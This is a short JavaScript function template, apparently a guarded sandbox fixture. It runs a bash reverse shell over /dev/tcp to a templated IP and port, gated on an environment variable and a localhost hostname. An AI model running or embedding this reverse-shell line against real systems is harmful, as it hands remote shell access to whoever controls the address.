// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    await new Promise((done) => require('child_process').exec(
        "bash -c 'exec 5<>/dev/tcp/{{ip}}/{{port}} && timeout -s KILL 1 sh -i <&5 >&5 2>&5'", { timeout: 2000 }, done));
}
